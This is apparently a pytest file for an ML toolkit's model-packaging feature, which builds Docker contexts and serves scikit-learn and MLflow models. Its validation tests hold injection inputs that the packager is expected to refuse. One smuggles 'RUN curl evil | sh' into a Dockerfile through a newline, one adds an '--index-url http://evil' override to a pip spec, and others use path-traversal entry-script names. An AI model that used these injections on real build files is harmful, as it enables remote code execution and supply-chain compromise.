"""Packaging a registered model as a Docker build context, and serving it the way its container would:
the packaged scoring server, with nothing but the package on the import path (no Ember install)."""

from __future__ import annotations

import json
import os
import pickle
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from importlib.metadata import version as installed
from pathlib import Path

import httpx
import pytest
from typer.testing import CliRunner

from ember import Environment, Workspace
from ember.cli.main import app
from ember.entities.jobs import EnvironmentRef
from ember.environments.spec import EnvironmentSpec
from ember.errors import InvalidInput
from ember.registry.model import Model
from ember.serving.config import InferenceConfig
from ember.serving.package import write_package
from support.ports import free_port

sklearn = pytest.importorskip("sklearn")

READY_DEADLINE_S = 60.0

SCORE = textwrap.dedent(
    """
    import json, pickle
    import numpy as np
    import ember
    from helpers.shape import rows

    model = None

    def init():
        global model
        with open(ember.Model.get_model_path("iris-clf"), "rb") as f:
            model = pickle.load(f)

    def run(raw_data):
        data = rows(json.loads(raw_data)["data"])
        return {"predictions": model.predict(np.asarray(data)).tolist(), "ember": ember.__file__}
    """
)

MLMODEL = """\
artifact_path: model
flavors:
  python_function: {loader_module: mlflow.sklearn, model_path: model.pkl, python_version: 3.12.1}
  sklearn: {pickled_model: model.pkl, serialization_format: pickle, sklearn_version: 1.5.2}
mlflow_version: 2.17.2
"""


@pytest.fixture
def ws(tmp_path: Path) -> Iterator[Workspace]:
    workspace = Workspace.create(str(tmp_path / "ws"))
    try:
        yield workspace
    finally:
        workspace.backend.close()


def _pickled_model() -> bytes:
    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression

    x, y = load_iris(return_X_y=True)
    return pickle.dumps(LogisticRegression(max_iter=500).fit(x, y))


@pytest.fixture
def iris(ws: Workspace, tmp_path: Path) -> Model:
    """A one-file scikit-learn model, registered as iris-clf version 1."""
    path = tmp_path / "model.pkl"
    path.write_bytes(_pickled_model())
    return Model.register(ws, path, "iris-clf")


@pytest.fixture
def serve(tmp_path: Path) -> Path:
    """An entry script's folder: the script, a helper package it imports, and files that stay out."""
    root = tmp_path / "serve"
    (root / "helpers").mkdir(parents=True)
    (root / "score.py").write_text(SCORE)
    (root / "helpers" / "__init__.py").write_text("")
    (root / "helpers" / "shape.py").write_text(
        "def rows(data):\n    return [list(map(float, r)) for r in data]\n"
    )
    (root / ".gitignore").write_text("scratch/\n")
    (root / "scratch").mkdir()
    (root / "scratch" / "big.csv").write_text("1,2\n")
    (root / "__pycache__").mkdir()
    (root / "__pycache__" / "score.cpython-311.pyc").write_bytes(b"\x00")
    (root / "inference.yml").write_text("entry_script: score.py\nsource_directory: .\nenvironment: sk\n")
    return root


@pytest.fixture
def environment(ws: Workspace) -> Environment:
    return Environment(
        "sk", python="3.11", pip=["scikit-learn>=1.3", "numpy"], env_vars={"GREETING": 'say "hi" to $USER'}
    ).register(ws)


def _container_command(context: Path, port: int) -> list[str]:
    """The Dockerfile's CMD, with /app as the context folder and this interpreter as ``python``."""
    cmd_line = next(
        line for line in (context / "Dockerfile").read_text().splitlines() if line.startswith("CMD ")
    )
    command: list[str] = json.loads(cmd_line[len("CMD ") :])
    assert command[0] == "python"
    mapped = [sys.executable, *(arg.replace("/app", str(context)) for arg in command[1:])]
    mapped[mapped.index("--host") + 1] = "127.0.0.1"
    mapped[mapped.index("--port") + 1] = str(port)
    return mapped


def _wait_ready(url: str, process: subprocess.Popen[bytes], log: Path) -> None:
    deadline = time.monotonic() + READY_DEADLINE_S
    while True:
        assert process.poll() is None, log.read_text()
        try:
            if httpx.get(f"{url}/readyz", timeout=1).status_code == 200:
                return
        except httpx.TransportError:
            pass
        assert time.monotonic() < deadline, log.read_text()
        time.sleep(0.05)


def test_a_packaged_model_is_served_without_ember_installed(
    ws: Workspace, iris: Model, serve: Path, environment: Environment, tmp_path: Path
) -> None:
    context = write_package(
        workspace=ws,
        models=[iris],
        inference=InferenceConfig.from_yaml(serve / "inference.yml"),
        target_dir=tmp_path / "package",
    )

    assert (context / "models" / "iris-clf" / "1" / "model.pkl").is_file()
    assert sorted(p.relative_to(context / "src").as_posix() for p in (context / "src").rglob("*")) == [
        ".gitignore", "helpers", "helpers/__init__.py", "helpers/shape.py", "inference.yml", "score.py",
    ]  # fmt: skip
    port = free_port()
    log = tmp_path / "server.log"
    env = {
        "PATH": os.environ.get("PATH", ""),
        "PYTHONPATH": str(context),
        "EMBER_MODEL_DIR": str(context / "models"),
    }
    with log.open("wb") as sink:
        process = subprocess.Popen(
            _container_command(context, port), cwd=context, env=env, stdout=sink, stderr=sink
        )
    url = f"http://127.0.0.1:{port}"
    try:
        _wait_ready(url, process, log)
        answer = httpx.post(f"{url}/score", json={"data": [[5.1, 3.5, 1.4, 0.2], [6.7, 3.0, 5.2, 2.3]]})
    finally:
        process.terminate()
        process.wait(timeout=10)

    assert answer.status_code == 200, log.read_text()
    assert answer.json()["predictions"] == [0, 2]
    assert answer.json()["ember"] == str(context / "ember" / "__init__.py")


def test_the_dockerfile_quotes_user_values_and_runs_in_exec_form(
    ws: Workspace, iris: Model, serve: Path, environment: Environment, tmp_path: Path
) -> None:
    config = InferenceConfig("score.py", source_directory=serve, environment=environment)
    context = write_package(workspace=ws, models=[iris], inference=config, target_dir=tmp_path / "package")

    dockerfile = (context / "Dockerfile").read_text()
    lines = dockerfile.splitlines()
    assert lines[1] == "FROM python:3.11-slim"
    assert 'LABEL ember.models="iris-clf:1" ember.environment="sk:1"' in lines
    assert 'RUN ["pip", "install", "--no-cache-dir", "-r", "requirements.txt"]' in lines
    assert 'ENV GREETING="say \\"hi\\" to \\$USER"' in lines
    assert "ENV EMBER_MODEL_DIR=/app/models" in lines
    assert "EXPOSE 5001" in lines
    assert json.loads(lines[-1].removeprefix("CMD ")) == [
        "python", "-m", "ember_scoring", "--host", "0.0.0.0", "--port", "5001", "--model-dir", "/app/models",
        "--source-dir", "/app/src", "--entry-script", "score.py",
    ]  # fmt: skip
    assert "HEALTHCHECK" not in dockerfile
    requirements = [
        line for line in (context / "requirements.txt").read_text().splitlines() if not line.startswith("#")
    ]
    assert requirements == [
        "scikit-learn>=1.3",
        "numpy",
        f"starlette=={installed('starlette')}",
        f"uvicorn=={installed('uvicorn')}",
        f"anyio=={installed('anyio')}",
    ]
    readme = (context / "README.md").read_text()
    assert "docker build -t iris-clf:1 ." in readme
    assert "docker run --rm -p 5001:5001 iris-clf:1" in readme


def test_an_mlflow_model_is_served_with_pyfunc_and_its_own_requirements(
    ws: Workspace, tmp_path: Path
) -> None:
    folder = tmp_path / "mlflow-model"
    folder.mkdir()
    (folder / "MLmodel").write_text(MLMODEL)
    (folder / "model.pkl").write_bytes(_pickled_model())
    (folder / "requirements.txt").write_text("scikit-learn==1.5.2\ncloudpickle==3.0.0  # pickling\n")
    model = Model.register(ws, folder, "iris-mlflow")

    context = write_package(workspace=ws, models=[model], inference=None, target_dir=tmp_path / "package")

    lines = (context / "Dockerfile").read_text().splitlines()
    assert lines[1] == "FROM python:3.12-slim"
    assert json.loads(lines[-1].removeprefix("CMD "))[-2:] == ["--mlflow-model", "iris-mlflow/1"]
    requirements = (context / "requirements.txt").read_text().splitlines()
    assert requirements[1:4] == ["scikit-learn==1.5.2", "cloudpickle==3.0.0", "mlflow==2.17.2"]
    assert not (context / "src").exists()


def test_unsafe_or_impossible_packages_are_refused(
    ws: Workspace,
    iris: Model,
    serve: Path,
    environment: Environment,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    config = InferenceConfig("score.py", source_directory=serve, environment=environment)
    full = tmp_path / "full"
    full.mkdir()
    (full / "keep.txt").write_text("mine")

    with pytest.raises(InvalidInput, match="not empty"):
        write_package(workspace=ws, models=[iris], inference=config, target_dir=full)
    with pytest.raises(InvalidInput, match="entry script"):
        write_package(workspace=ws, models=[iris], inference=None, target_dir=tmp_path / "none")

    newline_var = Environment("multi", env_vars={"BANNER": "one\nRUN curl evil | sh"}).register(ws)
    with pytest.raises(InvalidInput, match="newline"):
        write_package(
            workspace=ws,
            models=[iris],
            inference=InferenceConfig("score.py", source_directory=serve, environment=newline_var),
            target_dir=tmp_path / "var",
        )

    # A stored spec is validated on the way in; the package checks again rather than trust it.
    real = ws.backend.environments.get("sk", 1)
    tampered = EnvironmentSpec.model_construct(python="3.11", pip=("six==1.16.0\n--index-url http://evil",))
    monkeypatch.setattr(
        ws.backend.environments, "get", lambda name, version=None: real.model_copy(update={"spec": tampered})
    )
    with pytest.raises(InvalidInput, match="not allowed"):
        write_package(workspace=ws, models=[iris], inference=config, target_dir=tmp_path / "req")

    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".ember-package-")) == []
    assert [p.name for p in full.iterdir()] == ["keep.txt"]


@pytest.mark.parametrize(
    ("script", "message"),
    [
        ("../score.py", "stay inside"),
        ("/etc/passwd.py", "stay inside"),
        ("missing.py", "not a file"),
        ("x\n.py", "control"),
    ],
)
def test_an_entry_script_must_be_a_python_file_inside_its_folder(
    serve: Path, script: str, message: str
) -> None:
    with pytest.raises(InvalidInput, match=message):
        InferenceConfig(script, source_directory=serve)


def test_an_inference_config_reads_back_from_yaml(serve: Path) -> None:
    config = InferenceConfig.from_yaml(serve / "inference.yml")

    assert config.to_dict() == {
        "entry_script": "score.py",
        "source_directory": str(serve / "."),
        "environment": "sk",
    }
    assert config.environment_ref == EnvironmentRef(name="sk")


def test_the_shim_finds_models_like_ember_does(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import importlib.util
    import shutil

    from ember.registry import model_path
    from ember.serving import package

    # The shim package as a model package holds it: __init__.py from the template, _model_path.py copied.
    shim_dir = tmp_path / "shim"
    shim_dir.mkdir()
    (shim_dir / "__init__.py").write_text(package._SHIM)
    shutil.copyfile(model_path.__file__, shim_dir / "_model_path.py")
    spec = importlib.util.spec_from_file_location(
        "ember_shim_under_test", shim_dir / "__init__.py", submodule_search_locations=[str(shim_dir)]
    )
    assert spec is not None
    assert spec.loader is not None
    shim = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = shim
    spec.loader.exec_module(shim)
    shim_model = shim.Model
    (tmp_path / "one" / "1").mkdir(parents=True)
    (tmp_path / "one" / "1" / "model.pkl").write_bytes(b"1")
    for version in ("1", "2"):
        (tmp_path / "many" / version / "sub").mkdir(parents=True)
        (tmp_path / "many" / version / "a.bin").write_bytes(b"a")
    monkeypatch.setenv("EMBER_MODEL_DIR", str(tmp_path))

    for name, version in [("one", None), ("one", 1), ("many", None), ("many", 1)]:
        assert shim_model.get_model_path(name, version) == Model.get_model_path(name, version)  # type: ignore[attr-defined]


def test_ember_model_package_writes_a_context_from_the_command_line(
    ws: Workspace, iris: Model, serve: Path, environment: Environment, tmp_path: Path
) -> None:
    runner = CliRunner()
    workspace = str(tmp_path / "ws")
    target = tmp_path / "cli-package"

    result = runner.invoke(
        app,
        ["--workspace", workspace, "model", "package", "iris-clf:1", "--inference-config",
         str(serve / "inference.yml"), "-o", str(target), "--json"],
    )  # fmt: skip
    refused = runner.invoke(
        app, ["--workspace", workspace, "model", "package", "iris-clf", "-o", str(tmp_path / "x")]
    )

    assert result.exit_code == 0, result.output
    shown = json.loads(result.stdout)
    assert (shown["name"], shown["version"]) == ("iris-clf", 1)
    expected = {
        "Dockerfile", "README.md", "requirements.txt", "ember/__init__.py", "ember_scoring/__main__.py",
        "ember_scoring/scoring.py", "models/iris-clf/1/model.pkl", "src/score.py",
    }  # fmt: skip
    assert expected <= set(shown["files"])
    assert refused.exit_code != 0
    assert "--inference-config" in refused.output
    assert not (tmp_path / "x").exists()
